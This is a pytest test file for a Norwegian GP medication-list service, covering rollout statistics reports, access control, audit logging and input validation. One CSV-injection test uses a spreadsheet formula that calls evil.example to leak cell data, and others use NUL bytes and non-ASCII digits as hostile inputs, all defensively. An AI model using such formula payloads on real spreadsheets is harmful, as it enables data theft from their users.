"""The rollout team's reports (issue 19) on a hand-checked story, on both databases.

Three GP offices in the register: Bergen legesenter (1,000 list patients; GPs Kari and
Geir, client system ``journal-a``), Tromsø legesenter (500; GP Tove, ``journal-b``) and
Stavanger legesenter (2,000; nobody live yet). "Now" is 2026-10-20.

- 2026-09-15 (ISO week 38): Kari registers P1 and P2 and makes their lists, one medicine each
  (3 versions each: the list, the prescription, the entry).
- 2026-09-20 (week 38): Kari confirms P1's list.
- 2026-10-06 (week 41): Kari makes P3's list with a medicine (3 versions); Geir makes P4's
  (1 version); Tove makes P5's (1 version); P6 is imported from SFM (the reference
  ``$getMedication`` response, sent by Johan PSA Jensen, HPR 431001110, Østmarka
  Legekontor, who has no organisation number in it); the same document again is refused
  (409: P6 has a list), and so is an import of P1 (409).
- 2026-10-07 (week 41): P2 moves to Tove, who confirms P2's list (1 version); Geir changes
  P3's entry (1 version), and Kari's change of it, on the version before, is refused by the
  relay baton (412); Tove tries to confirm P1's list without stating a basis (403), and
  sends a MedicationStatement that is not valid (400); Kari reports a technical case
  about ``journal-b``.

Every figure asserted below follows from that story by hand.
"""

from __future__ import annotations

import csv
import html
import io
import os
import re
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from typing import Any

import httpx
import jwt
import pytest
import sqlalchemy as sa

from pll.api.app import create_app
from pll.auth.audit import AuditKey
from pll.auth.tokens import (
    CLAIM_HPR,
    CLAIM_HPR_DETAILS,
    CLAIM_ORG_NAME,
    CLAIM_ORG_PARENT,
    DEV_KID,
    hpr_details,
    issue,
    signing_key,
)
from pll.domain.errors import Conflict
from pll.domain.technical_cases import client_system
from pll.fhir import technical_cases as fhir_technical
from pll.services.lists import PLLService
from pll.services.sfm import SfmService
from pll.services.stats import Statistics
from pll.services.technical_cases import TechnicalCaseService
from pll.stats import organisations
from pll.stats.indicators import OSLO
from pll.store.db import Database
from pll.store.schema import audit_event, client_week_count
from tests.conftest import (
    Clock,
    LiveServer,
    _drop_postgres_database,
    _postgres_database,
    server_settings,
    serving,
)
from tests.e2e.scenes import METFORMIN, add_medicine
from tests.integration.builders import new_list, ok, patient
from tests.integration.test_sfm import reference
from tests.integration.test_web import browser, csrf, logged_in

REGISTER = """orgnr,name,kommunenummer,actor_type,her_id,list_patients
974600951,Bergen legesenter,4601,fastlege,,1000
911222337,Tromsø legesenter,5501,fastlege,,500
860777673,Stavanger legesenter,1103,fastlege,,2000
983974724,Haukeland universitetssjukehus,4601,sykehus,,
"""
BERGEN, TROMSO, STAVANGER = "974600951", "911222337", "860777673"
KARI, GEIR, TOVE, JOHAN = "9144889", "9145001", "9145028", "431001110"
BASIS = {"X-PLL-Access-Basis": "HPBEHANDLINGSRELASJON"}


def at(day: str, hour: int = 10) -> datetime:
    return datetime.fromisoformat(day).replace(hour=hour, tzinfo=OSLO)


def doctor_token(data_dir: Any, name: str, hpr: str, org: str, org_name: str, client: str) -> str:
    """A doctor's development token (as ``pll token`` makes them), for a GP of the story."""
    now = int(time.time())
    claims = {
        "iss": "pll-dev",
        "aud": "pll",
        "iat": now,
        "nbf": now,
        "exp": now + 3600,
        "sub": hpr,
        "name": name,
        "client_id": client,
        "scope": "openid nhn:pll/api",
        "helseid://claims/identity/security_level": "4",
        CLAIM_HPR: hpr,
        CLAIM_HPR_DETAILS: hpr_details(hpr, "LE"),
        CLAIM_ORG_PARENT: org,
        CLAIM_ORG_NAME: org_name,
    }
    return jwt.encode(claims, signing_key(data_dir), algorithm="RS256", headers={"kid": DEV_KID})


class Story:
    def __init__(self, server: LiveServer, clock: Clock) -> None:
        self.server, self.clock = server, clock
        self.pids: dict[str, str] = {}
        self.lists: dict[str, str] = {}
        self.entries: dict[str, str] = {}

    def at(self, when: datetime) -> None:
        self.clock.offset = when - datetime.now(UTC)

    def client(self, token: str, basis: bool = True) -> httpx.Client:
        headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/fhir+json"}
        if basis:
            headers |= BASIS
        return httpx.Client(base_url=self.server.base, headers=headers, timeout=30)

    def make(self, doctor: httpx.Client, name: str, medicine: bool) -> None:
        pid = ok(doctor.post("/fhir/Patient", json=patient()), 201)["id"]
        self.pids[name] = pid
        self.lists[name] = new_list(doctor, pid)["id"]
        if medicine:
            self.entries[name] = add_medicine(doctor, pid, METFORMIN)[0]

    def confirm(self, doctor: httpx.Client, name: str) -> httpx.Response:
        version = ok(doctor.get(f"/fhir/List/{self.lists[name]}"))["meta"]["versionId"]
        return doctor.post(
            f"/fhir/List/{self.lists[name]}/$confirm", headers={"If-Match": f'W/"{version}"'}
        )

    def tell(self) -> None:
        s = self.server
        d = s.data_dir
        Statistics(s.db, s.service.clock).register(organisations.parse("test", REGISTER))
        cases = TechnicalCaseService(s.service)
        cases.register(client_system("journal-a", "Journal A", "Leverandør A AS"))
        cases.register(client_system("journal-b", "Journal B", "Leverandør B AS"))
        geir = doctor_token(d, "Geir Fastlege", GEIR, BERGEN, "Bergen legesenter", "journal-a")
        tove = doctor_token(d, "Tove Fastlege", TOVE, TROMSO, "Tromsø legesenter", "journal-b")
        with (
            self.client(issue(d, "gp", client_id="journal-a")) as kari,
            self.client(geir) as geir_c,
            self.client(tove) as tove_c,
            self.client(tove, basis=False) as tove_nobasis,
        ):
            self.at(at("2026-09-15"))
            self.make(kari, "P1", medicine=True)
            self.make(kari, "P2", medicine=True)
            self.at(at("2026-09-20"))
            ok(self.confirm(kari, "P1"))
            self.at(at("2026-10-06"))
            self.make(kari, "P3", medicine=True)
            self.make(geir_c, "P4", medicine=False)
            self.make(tove_c, "P5", medicine=False)
            sfm = SfmService(s.service)
            self.pids["P6"] = sfm.import_document(reference()).patient_id
            with pytest.raises(Conflict):
                sfm.import_document(reference())
            self.at(at("2026-10-07"))
            ok(self.confirm(tove_c, "P2"))
            entry = f"/fhir/MedicationStatement/{self.entries['P3']}"
            current = ok(geir_c.get(entry))
            ok(
                geir_c.put(
                    entry,
                    json=dict(current, note=[{"text": "Geir justerer"}]),
                    headers={"If-Match": 'W/"1"'},
                )
            )
            stale = dict(current, note=[{"text": "Kari justerer"}])
            assert kari.put(entry, json=stale, headers={"If-Match": 'W/"1"'}).status_code == 412
            assert self.confirm_without_basis(tove_nobasis, "P1").status_code == 403
            bad = {"resourceType": "MedicationStatement", "status": "nonsense"}
            r = tove_c.put(entry, json=bad, headers={"If-Match": 'W/"2"'})
            assert r.status_code == 400, r.text
            task = {
                "resourceType": "Task",
                "status": "requested",
                "intent": "order",
                "code": fhir_technical.CODE,
                "focus": {"identifier": {"system": fhir_technical.CLIENT_ID, "value": "journal-b"}},
                "description": "Sending av listen feilet med tidsavbrudd",
            }
            ok(kari.post("/fhir/Task", json=task), 201)
        self.at(at("2026-10-20", 12))

    def confirm_without_basis(self, doctor: httpx.Client, name: str) -> httpx.Response:
        return doctor.post(f"/fhir/List/{self.lists[name]}/$confirm", headers={"If-Match": 'W/"4"'})


@pytest.fixture(scope="module")
def told(database: Database, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Story]:
    """The story, told once on a database and server of this module's own, on the same
    backend as ``database``."""
    data_dir = tmp_path_factory.mktemp("rollout-data")
    if database.is_sqlite:
        url, name = f"sqlite:///{data_dir / 'pll.sqlite3'}", None
    else:
        name = f"pll_rollout_{os.getpid()}_{uuid.uuid4().hex[:6]}"
        url = _postgres_database(name)
    db = Database(url)
    db.upgrade()
    clock = Clock()
    service = PLLService(db, AuditKey.load(data_dir), clock=clock)
    try:
        with serving(create_app(server_settings(data_dir, db), service)) as base:
            story = Story(LiveServer(base, data_dir, db, service), clock)
            story.tell()
            yield story
    finally:
        db.dispose()
        if name is not None:
            _drop_postgres_database(name)


@pytest.fixture
def rollout(told: Story) -> Iterator[httpx.Client]:
    token = issue(told.server.data_dir, "rollout")
    with httpx.Client(
        base_url=told.server.base, headers={"Authorization": f"Bearer {token}"}, timeout=30
    ) as client:
        yield client


def test_first_lists_of_october(told: Story, rollout: httpx.Client) -> None:
    report = ok(rollout.get("/stats/first-lists", params={"month": "2026-10"}))
    assert report["patients"] == 4  # P3, P4, P5 and the imported P6; no re-import, no change
    got = {(p["hpr"], p["orgnr"]): (p["patients"], p["dates"]) for p in report["prescribers"]}
    assert got == {
        (KARI, BERGEN): (1, ["2026-10-06"]),
        (GEIR, BERGEN): (1, ["2026-10-06"]),
        (TOVE, TROMSO): (1, ["2026-10-06"]),
        (JOHAN, ""): (1, ["2026-10-06"]),  # the import counts for the importing office
    }
    johan = next(p for p in report["prescribers"] if p["hpr"] == JOHAN)
    assert johan["organisation"] == "Østmarka Legekontor"
    offices = {(o["orgnr"], o["organisation"]): o["patients"] for o in report["organisations"]}
    assert offices == {
        (BERGEN, "Bergen legesenter"): 2,
        (TROMSO, "Tromsø legesenter"): 1,
        ("", "Østmarka Legekontor"): 1,
    }


def test_first_lists_of_september_and_csv(told: Story, rollout: httpx.Client) -> None:
    report = ok(rollout.get("/stats/first-lists", params={"month": "2026-09"}))
    # P2 moved to Tove in October: her confirmation is no first list; Kari keeps both
    assert [(p["hpr"], p["patients"], p["dates"]) for p in report["prescribers"]] == [
        (KARI, 2, ["2026-09-15", "2026-09-15"])
    ]
    for r in (
        rollout.get("/stats/first-lists", params={"month": "2026-09", "format": "csv"}),
        rollout.get("/stats/first-lists?month=2026-09", headers={"Accept": "text/csv"}),
    ):
        assert r.status_code == 200
        assert r.headers["content-type"].startswith("text/csv")
        assert r.text.splitlines() == [
            "month,hpr,name,orgnr,organisation,patients,dates",
            f"2026-09,{KARI},Kari Fastlege,{BERGEN},Bergen legesenter,2,2026-09-15;2026-09-15",
        ]
    assert ok(rollout.get("/stats/first-lists", params={"month": "2026-08"}))["patients"] == 0


def test_vendors_of_week_41(told: Story, rollout: httpx.Client) -> None:
    rows = ok(rollout.get("/stats/vendors", params={"week": "2026-W41"}))["rows"]
    got = {r["client_id"]: r for r in rows}
    measures = ("changes", "conflicts", "refusals", "overrides", "failed_sends", "technical_cases")
    assert {c: tuple(r[m] for m in measures) for c, r in got.items()} == {
        # P3: list, prescription, entry; P4's list; Geir's change of P3; Kari's 412
        "journal-a": (5, 1, 0, 0, 0, 0),
        # P5's list, P2 confirmed; the confirm without a basis; the invalid entry; the case
        "journal-b": (2, 0, 1, 0, 1, 1),
        # P6 imported as one version; the same document again refused (409)
        "pll-import-sfm": (1, 1, 0, 0, 0, 0),
    }
    assert (got["journal-a"]["name"], got["journal-a"]["vendor"]) == (
        "Journal A",
        "Leverandør A AS",
    )
    assert (got["pll-import-sfm"]["vendor"], got["pll-import-sfm"]["registered"]) == (
        "ukjent",
        False,
    )
    earlier = ok(rollout.get("/stats/vendors", params={"week": "2026-W38"}))["rows"]
    a = next(r for r in earlier if r["client_id"] == "journal-a")
    assert (a["changes"], a["conflicts"]) == (7, 0)  # P1, P2: 3 each; P1 confirmed


def test_gp_offices_furthest_behind_first(told: Story, rollout: httpx.Client) -> None:
    report = ok(rollout.get("/stats/gp-offices"))
    assert (report["month"], report["previous_month"]) == ("2026-10", "2026-09")
    figures = [
        (
            r["orgnr"],
            r["list_patients"],
            r["patients_with_pll"],
            r["share_with_pll_pct"],
            r["confirmed_12m"],
            r["first_lists_this_month"],
            r["first_lists_previous_month"],
            r["trend"],
        )
        for r in report["rows"]
    ]
    assert figures == [
        (STAVANGER, 2000, 0, 0.0, 0, 0, 0, 0),
        # P1 (Kari confirmed it), P3 (Geir changed it last), P4; P2 moved to Tromsø
        (BERGEN, 1000, 3, 0.3, 1, 2, 2, 0),
        # P2 (Tove confirmed it) and P5
        (TROMSO, 500, 2, 0.4, 1, 1, 0, 1),
    ]


def test_bad_parameters_get_a_400_naming_them(told: Story, rollout: httpx.Client) -> None:
    for path, params, where in [
        ("/stats/first-lists", {"month": "2026-13"}, "month"),
        ("/stats/first-lists", {"month": "oktober"}, "month"),
        ("/stats/vendors", {"week": "2026-W60"}, "week"),
        ("/stats/vendors", {"week": "2026-41"}, "week"),
        ("/stats/gp-offices", {"by": "region"}, "by"),
        ("/stats/gp-offices", {"format": "xml"}, "format"),
    ]:
        r = rollout.get(path, params=params)
        assert r.status_code == 400, (path, params, r.text)
        issue_ = r.json()["issue"][0]
        assert issue_["expression"] == [where]


def _report_records(told: Story) -> list[Any]:
    with told.server.db.read() as conn:
        return list(
            conn.execute(
                sa.select(audit_event.c.actor, audit_event.c.resource_id, audit_event.c.outcome)
                .where(audit_event.c.resource_type == "RolloutReport")
                .order_by(audit_event.c.id)
            )
        )


@pytest.mark.parametrize("path", ["/stats/first-lists", "/stats/vendors", "/stats/gp-offices"])
def test_only_the_rollout_team_reads_the_reports(told: Story, path: str) -> None:
    s = told.server
    before = len(_report_records(told))
    public = httpx.get(s.base + path, timeout=30)
    assert public.status_code == 403
    assert public.json()["resourceType"] == "OperationOutcome"
    for persona, pid in [("gp", None), ("pharmacist", None), ("patient", "09857215521")]:
        with s.client(persona, pid) as someone:
            r = someone.get(path)
            assert r.status_code == 403, (persona, r.text)
            assert "rollout" in r.json()["issue"][0]["diagnostics"]
    with httpx.Client(
        base_url=s.base, headers={"Authorization": f"Bearer {issue(s.data_dir, 'rollout')}"}
    ) as rollout:
        assert rollout.get(path).status_code == 200
    records = _report_records(told)[before:]
    # the three refused (the public sent no token: nobody to log), then the team's read
    assert [r.outcome for r in records] == ["4", "4", "4", "0"]
    assert '"role":"rollout"' in records[-1].actor
    assert records[-1].resource_id.startswith(path.removeprefix("/stats/"))


def test_the_rollout_team_reads_no_patient(told: Story) -> None:
    s = told.server
    with httpx.Client(
        base_url=s.base, headers={"Authorization": f"Bearer {issue(s.data_dir, 'rollout')}"}
    ) as rollout:
        r = rollout.get(f"/fhir/List/{told.lists['P1']}")
        assert r.status_code == 403
        r = rollout.get("/fhir/List", params={"patient": told.pids["P1"]})
        assert r.status_code == 403


def test_the_rollout_pages_show_the_reports(told: Story) -> None:
    s = told.server
    with browser(s) as team:
        r = team.post("/logg-inn/utvikler", data={"csrf": csrf(team), "persona": "rollout"})
        assert (r.status_code, r.headers["location"]) == (303, "/statistikk/utrulling")
        page = team.get("/statistikk/utrulling", params={"maned": "2026-10"})
        assert page.status_code == 200
        assert "Førstegangslister i 2026-10: 4 pasienter" in page.text
        assert "Østmarka Legekontor" in page.text
        page = team.get("/statistikk/utrulling/leverandorer", params={"uke": "2026-W41"})
        assert page.status_code == 200
        assert "Leverandør B AS" in page.text
        page = team.get("/statistikk/utrulling/legekontor")
        assert page.status_code == 200
        text = page.text
        assert text.index("Stavanger legesenter") < text.index("Bergen legesenter")
        assert text.index("Bergen legesenter") < text.index("Tromsø legesenter")
        bad = team.get("/statistikk/utrulling", params={"maned": "oktober"})
        assert bad.status_code == 400
        assert "Måneden må skrives som ÅÅÅÅ-MM" in bad.text
        assert 'value="oktober"' in bad.text


def test_the_rollout_pages_refuse_others_and_need_a_login(told: Story) -> None:
    s = told.server
    with browser(s) as anonymous:
        r = anonymous.get("/statistikk/utrulling/legekontor")
        assert (r.status_code, r.headers["location"]) == (303, "/logg-inn")
    before = len(_report_records(told))
    with logged_in(s, "gp") as gp:
        r = gp.get("/statistikk/utrulling/legekontor")
        assert r.status_code == 403
        assert "bare innførings- og kompensasjonsteamet" in r.text
        assert "Stavanger legesenter" not in r.text  # no figure of the report
    assert [x.outcome for x in _report_records(told)[before:]] == ["4"]


# -- found by the review (issue 19): hostile periods, what the payer is told, the counter --


def _team(server: LiveServer) -> httpx.Client:
    token = issue(server.data_dir, "rollout")
    return httpx.Client(
        base_url=server.base, headers={"Authorization": f"Bearer {token}"}, timeout=30
    )


def _doctor(server: LiveServer, token: str, basis: bool = True) -> httpx.Client:
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/fhir+json"}
    if basis:
        headers |= BASIS
    return httpx.Client(base_url=server.base, headers=headers, timeout=30)


@pytest.mark.parametrize(
    ("path", "params", "where"),
    [
        ("/stats/first-lists", {"month": "9999-12"}, "month"),
        ("/stats/vendors", {"week": "9999-W52"}, "week"),
    ],
)
def test_a_period_after_the_year_2999_is_a_400_not_a_500(
    server: LiveServer, path: str, params: dict[str, str], where: str
) -> None:
    """A period's year is 2000–2999: 9999-12 would end in year 10000, 9999-W52 past
    9999-12-31 — a 400 naming the parameter, never a 500."""
    with _team(server) as team:
        r = team.get(path, params=params)
    assert r.status_code == 400, r.text
    assert r.json()["issue"][0]["expression"] == [where]


@pytest.mark.parametrize(
    ("path", "params"),
    [
        ("/statistikk/utrulling", {"maned": "9999-12"}),
        ("/statistikk/utrulling/leverandorer", {"uke": "9999-W52"}),
    ],
)
def test_the_rollout_pages_answer_a_period_after_2999_with_a_400_page(
    server: LiveServer, path: str, params: dict[str, str]
) -> None:
    with logged_in(server, "rollout") as team:
        r = team.get(path, params=params)
    assert r.status_code == 400, r.text[:300]


@pytest.mark.parametrize(
    ("path", "params", "where"),
    [
        ("/stats/first-lists", {"month": "2026-1\x00"}, "month"),
        ("/stats/vendors", {"week": "2026-W4\x00"}, "week"),
    ],
)
def test_a_nul_in_the_period_is_a_400_before_anything_is_written(
    server: LiveServer, path: str, params: dict[str, str], where: str
) -> None:
    """The period is checked before the read's audit record (resource id
    ``first-lists/<month>``) is written: a NUL never reaches the database (PostgreSQL refuses
    it in a text column)."""
    with _team(server) as team:
        r = team.get(path, params=params)
    assert r.status_code == 400, r.text
    assert r.json()["issue"][0]["expression"] == [where]


@pytest.mark.parametrize(
    ("path", "params", "where"),
    [
        ("/stats/first-lists", {"month": "\u0662\u0660\u0662\u0666-\u0661\u0660"}, "month"),
        ("/stats/vendors", {"week": "\u0662\u0660\u0662\u0666-W\u0664\u0661"}, "week"),
    ],
)
def test_a_period_in_digits_other_than_ascii_is_a_400(
    server: LiveServer, path: str, params: dict[str, str], where: str
) -> None:
    """A period is in ASCII digits: Arabic-Indic "2026-W41" would mix figures of the real
    week (changes, read by time) with none of the counted ones (looked up by the text)."""
    with _team(server) as team:
        r = team.get(path, params=params)
    assert r.status_code == 400, r.text
    assert r.json()["issue"][0]["expression"] == [where]


OSTMARKA_REGISTER = """orgnr,name,kommunenummer,actor_type,her_id,list_patients
974600951,Østmarka Legekontor,4601,fastlege,8093556,800
"""
OSTMARKA = "974600951"


def test_an_sfm_import_is_credited_to_the_registered_office_of_its_her_id(
    server: LiveServer,
) -> None:
    """The reference document's sender (Johan PSA Jensen, Østmarka Legekontor) names his office
    by name and HER-id 8093556 only. The register knows that HER-id as orgnr 974600951, a GP
    office: the first list is credited to it (the payer can pay it), and the GP-office report
    counts the list and its first list for that office."""
    register = organisations.parse("test", OSTMARKA_REGISTER)
    Statistics(server.db, server.service.clock).register(register)
    SfmService(server.service).import_document(reference())
    with _team(server) as team:
        report = ok(team.get("/stats/first-lists"))
        offices = ok(team.get("/stats/gp-offices"))["rows"]
    johan = next(p for p in report["prescribers"] if p["hpr"] == JOHAN)
    assert johan["orgnr"] == OSTMARKA
    office = next(o for o in offices if o["orgnr"] == OSTMARKA)
    assert (office["patients_with_pll"], office["first_lists_this_month"]) == (1, 1)


FORMULA = ("=", "+", "-", "@", "\t", "\r")


def test_no_csv_cell_starts_a_formula(server: LiveServer) -> None:
    """The CSV is for the payer's spreadsheet. Its ``name`` and ``organisation`` cells come from
    tokens (and SFM documents): a cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or CR
    is written with a leading ``'`` (CSV injection, OWASP)."""
    evil = '=HYPERLINK("https://evil.example/?"&A1,"Se detaljer")'
    token = doctor_token(server.data_dir, evil, "9144889", "974600951", "@SUM(1+1)", "journal-a")
    with _doctor(server, token) as gp:
        pid = ok(gp.post("/fhir/Patient", json=patient()), 201)["id"]
        new_list(gp, pid)
    with _team(server) as team:
        r = team.get("/stats/first-lists", params={"format": "csv"})
    assert r.status_code == 200, r.text
    cells = [cell for row in csv.reader(io.StringIO(r.text)) for cell in row]
    assert any(c.lstrip("'") == evil for c in cells)  # the story happened
    assert [c for c in cells if c.startswith(FORMULA)] == []


def test_the_pages_csv_link_downloads_the_csv_with_the_session(server: LiveServer) -> None:
    """The first-list page's "Last ned CSV" works with the browser's session (a browser sends
    no bearer token): the page's own CSV route, audited as the API's read is."""
    with server.client("gp") as gp:
        new_list(gp, ok(gp.post("/fhir/Patient", json=patient()), 201)["id"])
    with logged_in(server, "rollout") as team:
        page = team.get("/statistikk/utrulling")
        assert page.status_code == 200, page.text[:300]
        found = re.search(r'href="([^"]*)">Last ned CSV<', page.text)
        assert found, "no CSV link on the page"
        before = len(_report_reads(server.db))
        r = team.get(html.unescape(found.group(1)))
    assert r.status_code == 200, r.text[:300]
    assert r.headers["content-type"].startswith("text/csv")
    header, first = list(csv.reader(io.StringIO(r.text)))
    assert header == ["month", "hpr", "name", "orgnr", "organisation", "patients", "dates"]
    assert first[5] == "1"
    assert len(_report_reads(server.db)) == before + 1


def _report_reads(db: Database) -> list[Any]:
    with db.read() as conn:
        return list(
            conn.execute(
                sa.select(audit_event.c.resource_id).where(
                    audit_event.c.resource_type == "RolloutReport", audit_event.c.outcome == "0"
                )
            )
        )


@contextmanager
def counter_fails(db: Database) -> Iterator[None]:
    """Make every write of ``client_week_count`` fail, as a full disk, a lock timeout or a
    read-only replica would."""
    with db.write() as conn:
        if db.is_sqlite:
            conn.execute(
                sa.text(
                    "CREATE TRIGGER count_fails BEFORE INSERT ON client_week_count "
                    "BEGIN SELECT RAISE(ABORT, 'no space'); END"
                )
            )
        else:
            conn.execute(
                sa.text(
                    "CREATE OR REPLACE FUNCTION count_fails() RETURNS trigger AS $$ "
                    "BEGIN RAISE EXCEPTION 'no space'; END $$ LANGUAGE plpgsql"
                )
            )
            conn.execute(
                sa.text(
                    "CREATE TRIGGER count_fails BEFORE INSERT ON client_week_count "
                    "FOR EACH ROW EXECUTE FUNCTION count_fails()"
                )
            )
    try:
        yield
    finally:
        with db.write() as conn:
            if db.is_sqlite:
                conn.execute(sa.text("DROP TRIGGER count_fails"))
            else:
                conn.execute(sa.text("DROP TRIGGER count_fails ON client_week_count"))
                conn.execute(sa.text("DROP FUNCTION count_fails()"))


def _refused_records(db: Database) -> int:
    with db.read() as conn:
        return int(
            conn.execute(
                sa.select(sa.func.count()).where(audit_event.c.outcome != "0")
            ).scalar_one()
        )


def test_a_refusal_is_logged_before_it_is_counted_and_a_failing_count_never_replaces_it(
    server: LiveServer,
) -> None:
    """Rule 5: a refused access is logged. Its count for the client system comes after the
    audit record and is best effort: when that statistics write fails, the caller still
    gets the 403 and the refused access is in the log."""
    with server.client("gp") as gp:
        pid = ok(gp.post("/fhir/Patient", json=patient()), 201)["id"]
        list_id = new_list(gp, pid)["id"]
    before = _refused_records(server.db)
    with server.client("gp", basis=None) as no_basis, counter_fails(server.db):
        r = no_basis.post(f"/fhir/List/{list_id}/$confirm", headers={"If-Match": 'W/"1"'})
    assert r.status_code == 403, r.text
    assert _refused_records(server.db) == before + 1


def test_a_refused_read_is_not_counted_for_its_client(server: LiveServer) -> None:
    """DESIGN: a refused request changes nothing. A read the API refuses (a report with a
    parameter it does not take: 400) sent nothing, and writes no ``client_week_count`` row —
    the per-client figures count refused changes (as the hot reads, which count none)."""
    with _team(server) as team:
        r = team.get("/stats/gp-offices", params={"by": "region"})
    assert r.status_code == 400, r.text
    with server.db.read() as conn:
        assert conn.execute(sa.select(client_week_count)).all() == []
